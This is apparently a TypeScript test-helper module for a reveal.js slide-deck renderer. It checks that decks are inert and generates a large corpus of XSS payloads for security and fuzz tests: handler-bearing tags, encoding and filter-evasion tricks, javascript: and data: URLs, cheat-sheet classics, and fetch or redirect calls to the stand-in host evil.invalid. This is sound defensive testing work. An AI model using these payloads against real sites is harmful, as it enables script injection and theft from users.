/**
 * Shared by the security, fuzz and parser-robustness tests: what a valid, inert
 * deck looks like, and hostile payloads built from parts.
 */
import type { Element, Root, RootContent } from 'hast';
import { toText } from 'hast-util-to-text';
import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { CONTENT_SECURITY_POLICY } from '../../src/render/render.ts';

/** Elements a deck must never contain: each can run script, load a resource or navigate. */
const FORBIDDEN_ELEMENTS = new Set([
  'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'svg', 'form', 'input', 'button', 'textarea', 'select',
  'base', 'a', 'img', 'video', 'audio', 'source', 'track', 'picture', 'portal', 'template', 'noscript', 'style', 'details',
  'dialog', 'marquee', 'canvas', 'image', 'isindex', 'xmp', 'plaintext', 'noembed', 'noframes',
]);

/** Attributes whose value is a URL the browser may follow or load. */
const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formAction', 'data', 'poster', 'background', 'cite', 'xLinkHref', 'srcSet', 'ping']);

/** Parse deck HTML the way a browser would (rehype-parse follows the HTML standard). */
export function parseDeck(html: string): Root {
  return unified().use(rehypeParse).parse(html) as Root;
}

function elements(node: Root | Element, out: Element[] = []): Element[] {
  for (const child of node.children as RootContent[]) {
    if (child.type === 'element') {
      out.push(child);
      elements(child, out);
      if (child.content) elements(child.content as unknown as Root, out);
    }
  }
  return out;
}

/**
 * Everything wrong with a deck page, as short descriptions (empty for a valid,
 * inert deck): the document shape reveal.js needs, the CSP, the deck's own
 * scripts only, no element or attribute that can run script, load or navigate.
 */
export function deckProblems(html: string, options: { slides?: number } = {}): string[] {
  const problems: string[] = [];
  if (!html.startsWith('<!doctype html>')) problems.push('no doctype first');
  const tree = parseDeck(html);
  const all = elements(tree);
  const htmlElement = tree.children.find((node): node is Element => node.type === 'element' && node.tagName === 'html');
  if (!htmlElement) return [...problems, 'no <html>'];
  const head = htmlElement.children.find((node): node is Element => node.type === 'element' && node.tagName === 'head');
  const body = htmlElement.children.find((node): node is Element => node.type === 'element' && node.tagName === 'body');
  if (!head || !body) return [...problems, 'no <head> or <body>'];
  const csp = elements(head).find((element) => element.tagName === 'meta' && String(element.properties.httpEquiv ?? '').toLowerCase() === 'content-security-policy');
  if (!csp) problems.push('no Content-Security-Policy meta');
  else if (csp.properties.content !== CONTENT_SECURITY_POLICY) problems.push(`CSP changed: ${String(csp.properties.content)}`);
  if (elements(head)[0] !== elements(head).find((element) => element.tagName === 'meta' && element.properties.charSet)) problems.push('charset meta not first');
  if (elements(head).indexOf(csp!) > 1) problems.push('CSP meta not right after charset');
  if (!elements(head).some((element) => element.tagName === 'title')) problems.push('no <title>');

  const reveal = body.children.find((node): node is Element => node.type === 'element' && node.tagName === 'div' && (node.properties.className as string[] | undefined)?.includes('reveal') === true);
  const slides = reveal?.children.find((node): node is Element => node.type === 'element' && (node.properties.className as string[] | undefined)?.includes('slides') === true);
  if (!slides) problems.push('no div.reveal > div.slides');
  else {
    const sections = slides.children.filter((node): node is Element => node.type === 'element');
    if (sections.length === 0) problems.push('no slides');
    if (sections.some((section) => section.tagName !== 'section')) problems.push('non-section child of div.slides');
    if (options.slides !== undefined && sections.length !== options.slides) problems.push(`${sections.length} slides, expected ${options.slides}`);
    for (const section of sections) {
      // A continuing slide has its section's name as a small label above its title (issue 13).
      const first = section.children.find((node): node is Element => node.type === 'element' && !(node.tagName === 'p' && (node.properties.className as string[] | undefined)?.includes('section-label') === true));
      if (!first || (first.tagName !== 'h1' && first.tagName !== 'h2')) problems.push('slide without a title heading first');
    }
  }

  for (const element of all) {
    // An article's own link (issue 14) is an <a> to an http(s) or mailto address that opens
    // apart from the deck: it loads nothing until clicked and can run nothing.
    if (isArticleLink(element)) continue;
    if (FORBIDDEN_ELEMENTS.has(element.tagName)) problems.push(`<${element.tagName}> element`);
    if (element.tagName === 'script') {
      const src = String(element.properties.src ?? '');
      if (!/^assets\/[a-z0-9.-]+\.js$/.test(src)) problems.push(`script with src \`${src}\``);
      if (element.children.length > 0) problems.push('inline script');
    }
    if (element.tagName === 'meta' && element.properties.httpEquiv !== undefined && element !== csp) problems.push(`meta http-equiv ${String(element.properties.httpEquiv)}`);
    if (element.tagName === 'link' && !/^assets\/(?:katex\/)?[a-z0-9.-]+\.css$/.test(String(element.properties.href ?? ''))) problems.push(`link to \`${String(element.properties.href)}\``);
    for (const [key, value] of Object.entries(element.properties)) {
      if (/^on/i.test(key)) problems.push(`event handler ${key} on <${element.tagName}>`);
      // KaTeX sizes its boxes with inline styles (issue 14): a style may set sizes, never load anything.
      if (key === 'style' && !/url\s*\(|@import|expression|image-set/i.test(String(value)) && element.tagName === 'span') continue;
      if (key === 'style' || key === 'srcDoc') problems.push(`${key} attribute on <${element.tagName}>`);
      if (URL_ATTRIBUTES.has(key) && element.tagName !== 'script' && element.tagName !== 'link') problems.push(`${key}=${String(value)} on <${element.tagName}>`);
      if (/^data(Background|Src|Markdown|Preview|Iframe)/.test(key)) problems.push(`reveal.js loader attribute ${key}`);
    }
  }
  return problems;
}

/** Whether an element is a link kept from the article: http(s) or mailto, new tab, no opener, no referrer, nothing else. */
function isArticleLink(element: Element): boolean {
  if (element.tagName !== 'a') return false;
  const { href, rel, target, ...rest } = element.properties;
  const rels = Array.isArray(rel) ? rel.map(String) : String(rel ?? '').split(/\s+/);
  return /^(https?:\/\/|mailto:)/i.test(String(href ?? '')) && rels.includes('noopener') && rels.includes('noreferrer') && target === '_blank' && Object.keys(rest).length === 0;
}

/** How many script elements a browser builds from this HTML as written (before any script runs). */
export function scriptCount(html: string): number {
  return elements(parseDeck(html)).filter((element) => element.tagName === 'script').length;
}

/** The text a person sees in a deck (slides and speaker notes). */
export function deckText(html: string): string {
  return toText(parseDeck(html));
}

/** What a payload does when it runs: each leaves a trace the browser test looks for. */
export const ACTIONS = [
  'alert(1)',
  'confirm(1)',
  'prompt(1)',
  'top.__bdPwned=1',
  'console.log(`BD-PWNED`)',
  'document.title=`BD-PWNED`',
  'location=`https://evil.invalid/`',
  'fetch(`https://evil.invalid/x`)',
  'print()',
];

const TAGS_WITH_HANDLERS: Array<[string, string]> = [
  ['img src=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg><animate attributeName=x dur=1s repeatCount=2', 'onbegin'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['details open', 'ontoggle'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['marquee', 'onstart'],
  ['div style="animation-name:spin"', 'onanimationstart'],
  ['object data=x', 'onerror'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['a href=# autofocus tabindex=1', 'onfocus'],
  ['x contenteditable autofocus', 'onfocusin'],
  ['section', 'onmouseover'],
];

/** Ways to write the same markup so a naive filter misses it. */
const ENCODINGS: Array<(tag: string, handler: string, action: string) => string> = [
  (tag, handler, action) => `<${tag} ${handler}=${action}>`,
  (tag, handler, action) => `<${tag.toUpperCase()} ${handler.toUpperCase()}="${action}">`,
  (tag, handler, action) => `<${tag}\t${handler}\n=\n'${action}'>`,
  (tag, handler, action) => `<${tag}/${handler}=${action}//>`,
  (tag, handler, action) => `&lt;${tag} ${handler}=${action}&gt;`,
  (tag, handler, action) => `<${tag} ${handler}=${[...action].map((ch) => `&#${ch.charCodeAt(0)};`).join('')}>`,
  (tag, handler, action) => `<${tag} ${handler}="${[...action].map((ch) => `&#x${ch.charCodeAt(0).toString(16)};`).join('')}">`,
  (tag, handler, action) => `"><${tag} ${handler}=${action}>`,
  (tag, handler, action) => `'--></script></style></title></textarea><${tag} ${handler}=${action}>`,
];

/** URL schemes that run script or load content, written in the disguises browsers forgive. */
export function hostileUrls(action = 'alert(1)'): string[] {
  const bare = [`javascript:${action}`, `vbscript:msgbox(1)`, `data:text/html,<script>${action}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${action}>`];
  const out: string[] = [];
  for (const url of bare) {
    const colon = url.indexOf(':');
    const scheme = url.slice(0, colon);
    const rest = url.slice(colon);
    out.push(
      url,
      scheme.toUpperCase() + rest,
      ` \u0001${url}`,
      `${scheme.slice(0, 3)}\t${scheme.slice(3)}${rest}`,
      `${scheme.slice(0, 3)}\n${scheme.slice(3)}${rest}`,
      `${[...scheme].map((ch) => `&#${ch.charCodeAt(0)};`).join('')}${rest}`,
      `${[...scheme].map((ch) => `&#x${ch.charCodeAt(0).toString(16).padStart(4, '0')};`).join('')}&colon;${rest.slice(1)}`,
      `${[...scheme].map((ch) => `%${ch.charCodeAt(0).toString(16)}`).join('')}${rest}`,
    );
  }
  return out;
}

/** Hand-written classics from XSS cheat sheets and past Markdown-tool advisories. */
const CLASSICS = (action: string): string[] => [
  `<script>${action}</script>`,
  `</script><script>${action}</script>`,
  `<script src=data:,${action}></script>`,
  `<scr<script>ipt>${action}</scr</script>ipt>`,
  `<!--<img src="--><img src=x onerror=${action}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${action}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${action}>`,
  `<svg><style><img src=x onerror=${action}></style></svg>`,
  `<iframe srcdoc="<script>${action}</script>"></iframe>`,
  `<iframe src="javascript:${action}"></iframe>`,
  `<object data="javascript:${action}"></object>`,
  `<embed src="javascript:${action}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${action}">`,
  `<base href="javascript:${action}//">`,
  `<form action="javascript:${action}"><button>go</button></form>`,
  `<a href="jav&#x09;ascript:${action}">click</a>`,
  `<a href=" &#14;  javascript:${action}">click</a>`,
  `<svg><a xlink:href="javascript:${action}"><text x=20 y=20>click</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${action}'/></svg>#x"/></svg>`,
  `<template><img src=x onerror=${action}></template>`,
  `<section data-background-iframe="javascript:${action}">`,
  `<section data-markdown><textarea data-template><img src=x onerror=${action}></textarea></section>`,
  `<div data-background-video="javascript:${action}">`,
  `<link rel=import href="data:text/html,<script>${action}</script>">`,
  `<style>@import 'https://evil.invalid/x.css';</style>`,
  `<div style="background:url(javascript:${action})">`,
  `<div style="width:expression(${action})">`,
  `{{constructor.constructor('${action}')()}}`,
  `\${${action}}`,
  `<% ${action} %>`,
  `<img src=x:x onerror=${action}>`,
  `<isindex type=image src=1 onerror=${action}>`,
  `<xmp><img src=x onerror=${action}></xmp>`,
  `<plaintext><img src=x onerror=${action}>`,
  `<svg><script>${action}</script></svg>`,
  `<svg><script href=data:,${action} />`,
  `<math href="javascript:${action}">click</math>`,
  `<x onclick=${action}>click`,
  `\u003cscript\u003e${action}\u003c/script\u003e`,
  `＜script＞${action}＜/script＞`,
  `<img src="x" onerror="eval(atob('YWxlcnQoMSk='))">`,
  `<body onload=${action}>`,
  `<input onfocus=${action} autofocus>`,
  `<video><source onerror="${action}">`,
  `"><script>${action}</script>`,
  `'><script>${action}</script>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${action}//'>`,
];

/** At least `count` payloads from templates (tags x handlers x encodings x actions), URLs and the classics. */
export function payloadCorpus(): string[] {
  const out = new Set<string>();
  TAGS_WITH_HANDLERS.forEach(([tag, handler], tagIndex) => {
    ENCODINGS.forEach((encode, encodingIndex) => {
      out.add(encode(tag, handler, ACTIONS[(tagIndex + encodingIndex) % ACTIONS.length]!));
    });
  });
  for (const action of ACTIONS.slice(0, 4)) for (const classic of CLASSICS(action)) out.add(classic);
  for (const url of hostileUrls()) out.add(url);
  return [...out];
}

/** A small seeded random generator (mulberry32), so a failure can be replayed from its seed. */
export function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** `count` payloads not in the repository: random compositions of tags, handlers, encodings, actions and URLs. */
export function randomPayloads(count: number, random: () => number): string[] {
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
  const classics = CLASSICS('X');
  const out: string[] = [];
  for (let i = 0; i < count; i += 1) {
    const action = pick(ACTIONS);
    const kind = random();
    let payload: string;
    if (kind < 0.5) {
      const [tag, handler] = pick(TAGS_WITH_HANDLERS);
      payload = pick(ENCODINGS)(tag, handler, action);
    } else if (kind < 0.75) {
      payload = pick(classics).replaceAll('X', action);
    } else {
      const url = pick(hostileUrls(action));
      payload = pick([`[click](${url})`, `![x](${url})`, `<${url}>`, `[ref]\n\n[ref]: ${url}`, `<a href="${url}">click</a>`, url]);
    }
    // Random noise around it: quotes, closers, control characters, a zero-width space.
    const noise = ['', '"', "'", '>', '-->', ']]>', '\u200b', '\u0000', '\r', '`'];
    out.push(`${pick(noise)}${payload}${pick(noise)}`);
  }
  return out;
}
